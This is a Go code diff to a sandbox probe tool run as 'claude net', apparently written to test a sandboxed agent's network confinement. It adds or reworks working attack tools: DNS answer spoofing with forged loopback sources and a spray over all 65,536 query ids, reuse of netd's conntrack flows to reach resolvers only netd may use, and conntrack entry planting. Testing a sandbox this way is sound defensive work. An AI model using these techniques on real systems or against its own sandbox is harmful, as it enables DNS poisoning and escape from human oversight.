@@ -19,33 +19,35 @@ import (
 	"github.com/miekg/dns"
 )
 
-// More of the adversary's tools against the shared namespace (issue 14): forging the source of a
-// datagram to any loopback address with IP_PKTINFO, which needs no capability, and using it to
-// answer a query netd is waiting for. A forged packet that matches the reply direction of one of
-// netd's own flows is "established" for conntrack, so it passes the ruleset before any rule about
-// sources is reached.
+// More of the adversary's tools against the shared namespace (issue 14). A process without
+// capabilities may send from any loopback address with IP_PKTINFO (the socket bound to another
+// loopback address on the wanted port), may read every socket's ports in /proc/net/udp, and may
+// bind a port netd just let go: a packet that so matches a direction of one of netd's conntrack
+// entries is "established" for the ruleset, which accepts it before any rule about sources or
+// uids is reached. The tools answer netd's queries that way, reuse its finished flows, plant
+// entries its later queries follow, and hold long HTTP exchanges through its proxy.
 
-const ns2Usage = `       claude net udp-sockets                          the namespace's UDP sockets, from /proc/net/udp
-       claude net pktinfo-send BIND SRC DST            one datagram from a socket bound to BIND, with source SRC (IP_PKTINFO)
-       claude net spoof-race NAME ANSWER SECONDS [plant]
-                                                    watch /proc/net/udp for netd's queries to 127.0.0.11:53 and answer
+const ns2Usage = `       claude net pktinfo-send BIND SRC DST            one datagram from a socket bound to BIND, with source SRC (IP_PKTINFO)
+       claude net spoof-race NAME ANSWER SECONDS       watch /proc/net/udp for netd's queries to 127.0.0.11:53 and answer
                                                     each with every DNS id, NAME → ANSWER, forged from Docker's resolver
-                                                    (and from netd's own resolver when plant: first plant conntrack entries
-                                                    that send netd's queries to netd itself, to keep them waiting)
+       claude net reuse-flow NAME SECONDS              watch /proc/net/udp for netd's DNS queries; once one's socket is
+                                                    gone, bind its address and port and ask its server for NAME along
+                                                    netd's conntrack entry
        claude net plant SECONDS                        for SECONDS, every 10 s, send one byte from every free ephemeral port
-                                                    of 127.0.0.1 to 127.0.0.11:53 (see spoof-race)
+                                                    of 127.0.0.1 to 127.0.0.11:53: each becomes a conntrack entry that a
+                                                    later query of netd's from that port follows, to netd's own resolver
        claude net http-stream drip|sink ADDR:PORT HOST SECONDS MARKER
                                                     one long HTTP exchange with testsrv: a slow download or upload`
 
 // ns2Probe runs one of the tools of this file, or reports that args are not one.
 func ns2Probe(args []string) (map[string]any, bool) {
 	switch args[0] {
-	case "udp-sockets":
-		return udpSockets(), true
 	case "pktinfo-send":
 		return pktinfoSend(args[1:]), true
 	case "spoof-race":
 		return spoofRace(args[1:]), true
+	case "reuse-flow":
+		return reuseFlow(args[1:]), true
 	case "plant":
 		return plant(args[1:]), true
 	case "http-stream":
@@ -56,9 +58,8 @@ func ns2Probe(args []string) (map[string]any, bool) {
 
 // udpSocket is one line of /proc/net/udp.
 type udpSocket struct {
-	Local  netipPort `json:"local"`
-	Remote netipPort `json:"remote"`
-	UID    int       `json:"uid"`
+	Local, Remote netipPort
+	UID           int
 }
 
 // netipPort is an IPv4 address and port as /proc/net/udp has them.
@@ -70,8 +71,6 @@ type netipPort struct {
 func (a netipPort) String() string {
 	return fmt.Sprintf("%d.%d.%d.%d:%d", a.IP[0], a.IP[1], a.IP[2], a.IP[3], a.Port)
 }
-
-func (a netipPort) MarshalText() ([]byte, error) { return []byte(a.String()), nil }
 
 // parseProcAddr reads "0100007F:3BF9": the address in host (little-endian) order, the port in hex.
 func parseProcAddr(s string) (netipPort, error) {
@@ -114,14 +113,6 @@ func readUDPSockets() ([]udpSocket, error) {
 		out = append(out, udpSocket{Local: loc, Remote: rem, UID: uid})
 	}
 	return out, nil
-}
-
-func udpSockets() map[string]any {
-	s, err := readUDPSockets()
-	if err != nil {
-		return failed(err)
-	}
-	return map[string]any{"ok": true, "sockets": s}
 }
 
 // forger sends datagrams whose source is any local (loopback) address: the socket is bound to
@@ -196,114 +187,110 @@ func dockerResolverPort() (int, error) {
 
 // spoofRace answers netd's upstream queries for NAME before Docker can. It polls /proc/net/udp
 // for sockets connected to 127.0.0.11:53 — netd's queries, whose local port anyone can read
-// there — and sends each one answer per DNS id (65,536), NAME A ANSWER, with the source address
-// and port of the reply netd waits for: Docker's resolver (127.0.0.11 and its real port), or,
-// with plant, netd's own resolver port on 127.0.0.1. plant first sends a datagram from every
-// ephemeral port of 127.0.0.1 to 127.0.0.11:53: the ruleset redirects the agent's DNS to netd,
-// conntrack remembers that, and a later query of netd's own from the same port follows the
-// same entry — to netd's resolver, which asks again, and so on, so the query waits long enough
-// for 65,536 answers. ok when a query was answered by every id.
+// there — and sends each one answer per DNS id (65,536), NAME A ANSWER, from Docker's resolver
+// address and real port: the source of the reply netd waits for. ok when a query was answered
+// by every id.
 func spoofRace(args []string) map[string]any {
 	if len(args) < 3 {
-		return map[string]any{"ok": false, "error": "need NAME ANSWER SECONDS [plant]"}
+		return map[string]any{"ok": false, "error": "need NAME ANSWER SECONDS"}
 	}
-	name := dns.Fqdn(args[0])
 	answer := net.ParseIP(args[1]).To4()
 	secs, err := strconv.Atoi(args[2])
 	if answer == nil || err != nil {
 		return map[string]any{"ok": false, "error": "ANSWER must be an IPv4 address and SECONDS a number"}
 	}
-	plant := len(args) > 3 && args[3] == "plant"
-	deadline := time.Now().Add(time.Duration(secs) * time.Second)
-	res := map[string]any{"ok": false}
 	rport, err := dockerResolverPort()
 	if err != nil {
 		return failed(err)
 	}
-	res["docker_port"] = rport
-	// Several sockets share the ids, each bound to a loopback address of its own on the port
-	// the forged replies must come from.
-	var forgers [][]*forger
-	for i, src := range []struct {
-		ip   net.IP
-		port int
-	}{{net.IPv4(127, 0, 0, 11), rport}, {net.IPv4(127, 0, 0, 1), 15353}} {
-		if i == 1 && !plant {
-			break
-		}
-		var group []*forger
-		for w := range sprayWorkers {
-			f, err := newForger(&net.UDPAddr{IP: net.IPv4(127, 0, byte(20+i), byte(1+w)), Port: src.port}, src.ip)
-			if err != nil {
-				return failed(err)
-			}
-			defer f.close()
-			group = append(group, f)
-		}
-		forgers = append(forgers, group)
+	sp, err := newSprayer(dns.Fqdn(args[0]), answer, rport)
+	if err != nil {
+		return failed(err)
 	}
-	if plant {
-		res["planted"] = plantAll()
-		go func() {
-			for time.Now().Before(deadline) {
-				time.Sleep(10 * time.Second)
-				plantAll()
+	defer sp.close()
+	seen := map[int]bool{}
+	var sprayed []int
+	for deadline := time.Now().Add(time.Duration(secs) * time.Second); time.Now().Before(deadline); {
+		socks, _ := readUDPSockets()
+		for _, s := range socks {
+			if s.Remote.IP == [4]byte{127, 0, 0, 11} && s.Remote.Port == 53 && !seen[s.Local.Port] {
+				seen[s.Local.Port] = true
+				sprayed = append(sprayed, s.Local.Port)
+				sp.spray(&net.UDPAddr{IP: net.IP(s.Local.IP[:]), Port: s.Local.Port})
 			}
-		}()
+		}
+		time.Sleep(500 * time.Microsecond)
 	}
+	sp.wg.Wait()
+	res := map[string]any{"ok": len(sprayed) > 0, "docker_port": rport, "sprayed_ports": sprayed,
+		"sent": sp.sent.Load(), "send_errors": sp.errs.Load(), "spray_ms": sp.ms.Load()}
+	if e := sp.firstErr.Load(); e != nil {
+		res["first_send_error"] = e
+	}
+	return res
+}
+
+// sprayer sends one forged answer per DNS id to a port, from Docker's resolver address: the
+// ids are shared among [sprayWorkers] sockets, each bound to a loopback address of its own on
+// Docker's port.
+type sprayer struct {
+	tmpl    []byte // the answer, id 0
+	forgers []*forger
+
+	wg       sync.WaitGroup
+	sent     atomic.Int64
+	errs     atomic.Int64
+	ms       atomic.Int64 // how long the last spray took
+	firstErr atomic.Value
+}
+
+func newSprayer(name string, answer net.IP, port int) (*sprayer, error) {
 	msg := new(dns.Msg)
 	msg.SetQuestion(name, dns.TypeA)
 	msg.Response, msg.RecursionAvailable = true, true
 	msg.Answer = []dns.RR{&dns.A{Hdr: dns.RR_Header{Name: name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 3600}, A: answer}}
 	tmpl, err := msg.Pack()
 	if err != nil {
-		return failed(err)
+		return nil, err
 	}
-	seen := map[int]bool{}
-	var sprayed []int
-	var sent, sendErrs atomic.Int64
-	var firstErr atomic.Value
-	var sprayMS atomic.Int64
-	var wg sync.WaitGroup
-	for time.Now().Before(deadline) {
-		socks, _ := readUDPSockets()
-		for _, s := range socks {
-			if s.Remote.IP != [4]byte{127, 0, 0, 11} || s.Remote.Port != 53 || seen[s.Local.Port] {
-				continue
-			}
-			seen[s.Local.Port] = true
-			sprayed = append(sprayed, s.Local.Port)
-			to := &net.UDPAddr{IP: net.IP(s.Local.IP[:]), Port: s.Local.Port}
-			for _, group := range forgers {
-				for w, f := range group {
-					wg.Add(1)
-					go func() {
-						defer wg.Done()
-						start := time.Now()
-						b := append([]byte(nil), tmpl...)
-						for id := w; id < 1<<16; id += len(group) {
-							binary.BigEndian.PutUint16(b, uint16(id))
-							if err := f.send(b, to); err != nil {
-								sendErrs.Add(1)
-								firstErr.CompareAndSwap(nil, err.Error())
-							} else {
-								sent.Add(1)
-							}
-						}
-						sprayMS.Store(time.Since(start).Milliseconds())
-					}()
+	sp := &sprayer{tmpl: tmpl}
+	for w := range sprayWorkers {
+		f, err := newForger(&net.UDPAddr{IP: net.IPv4(127, 0, 20, byte(1+w)), Port: port}, net.IPv4(127, 0, 0, 11))
+		if err != nil {
+			sp.close()
+			return nil, err
+		}
+		sp.forgers = append(sp.forgers, f)
+	}
+	return sp, nil
+}
+
+// spray sends every id to to, in the background.
+func (sp *sprayer) spray(to *net.UDPAddr) {
+	for w, f := range sp.forgers {
+		sp.wg.Add(1)
+		go func() {
+			defer sp.wg.Done()
+			start := time.Now()
+			b := append([]byte(nil), sp.tmpl...)
+			for id := w; id < 1<<16; id += len(sp.forgers) {
+				binary.BigEndian.PutUint16(b, uint16(id))
+				if err := f.send(b, to); err != nil {
+					sp.errs.Add(1)
+					sp.firstErr.CompareAndSwap(nil, err.Error())
+				} else {
+					sp.sent.Add(1)
 				}
 			}
-		}
-		time.Sleep(500 * time.Microsecond)
+			sp.ms.Store(time.Since(start).Milliseconds())
+		}()
 	}
-	wg.Wait()
-	res["sprayed_ports"], res["sent"], res["send_errors"], res["spray_ms"] = sprayed, sent.Load(), sendErrs.Load(), sprayMS.Load()
-	if e := firstErr.Load(); e != nil {
-		res["first_send_error"] = e
+}
+
+func (sp *sprayer) close() {
+	for _, f := range sp.forgers {
+		f.close()
 	}
-	res["ok"] = len(sprayed) > 0
-	return res
 }
 
 // sprayWorkers is how many sockets share the 65,536 ids of one spray.
@@ -408,4 +395,80 @@ func httpStream(args []string) map[string]any {
 		return broke(rounds, fmt.Errorf("status: %w", err))
 	}
 	return map[string]any{"ok": strings.Contains(status, " 200 "), "rounds": rounds, "reply": strings.TrimSpace(status)}
+}
+
+// reuseFlow watches /proc/net/udp for netd's DNS queries (uid NetdUID, remote port 53, to
+// Docker's resolver or the host's) and, once a query's socket is closed, binds its address and
+// port itself and asks the same server for NAME: conntrack still holds netd's entry, so the
+// ruleset's "established" would let the datagram through to a resolver only netd may reach,
+// and the answer back. ok when a server answered; the answers and each server are reported.
+func reuseFlow(args []string) map[string]any {
+	if len(args) < 2 {
+		return map[string]any{"ok": false, "error": "need NAME SECONDS"}
+	}
+	secs, _ := strconv.Atoi(args[1])
+	deadline := time.Now().Add(time.Duration(secs) * time.Second)
+	open := map[udpSocket]bool{}
+	tried := map[udpSocket]bool{}
+	var answered, servers, attempts []string
+	for time.Now().Before(deadline) {
+		socks, _ := readUDPSockets()
+		now := map[udpSocket]bool{}
+		for _, s := range socks {
+			if s.UID == netdUID && s.Remote.Port == 53 {
+				now[s] = true
+				open[s] = true
+			}
+		}
+		for s := range open {
+			if now[s] || tried[s] {
+				continue
+			}
+			tried[s] = true
+			delete(open, s)
+			attempts = append(attempts, s.Local.String()+"->"+s.Remote.String())
+			if ans, err := askFrom(s.Local, s.Remote, args[0]); err == nil {
+				answered = append(answered, ans...)
+				servers = append(servers, s.Remote.String())
+			}
+		}
+		time.Sleep(time.Millisecond)
+	}
+	return map[string]any{"ok": len(servers) > 0, "answers": answered, "servers": servers, "attempts": len(attempts)}
+}
+
+// netdUID is policy.NetdUID (the stand-in does not import abox).
+const netdUID = 990
+
+// askFrom sends one A query for name from local to server and waits a second for the reply.
+func askFrom(local, server netipPort, name string) ([]string, error) {
+	c, err := net.DialUDP("udp4", &net.UDPAddr{IP: net.IP(local.IP[:]), Port: local.Port},
+		&net.UDPAddr{IP: net.IP(server.IP[:]), Port: server.Port})
+	if err != nil {
+		return nil, err
+	}
+	defer c.Close()
+	q := new(dns.Msg)
+	q.SetQuestion(dns.Fqdn(name), dns.TypeA)
+	b, _ := q.Pack()
+	if _, err := c.Write(b); err != nil {
+		return nil, err
+	}
+	c.SetReadDeadline(time.Now().Add(time.Second))
+	buf := make([]byte, 4096)
+	n, err := c.Read(buf)
+	if err != nil {
+		return nil, err
+	}
+	r := new(dns.Msg)
+	if err := r.Unpack(buf[:n]); err != nil {
+		return nil, err
+	}
+	out := []string{dns.RcodeToString[r.Rcode]}
+	for _, rr := range r.Answer {
+		if a, ok := rr.(*dns.A); ok {
+			out = append(out, a.A.String())
+		}
+	}
+	return out, nil
 }
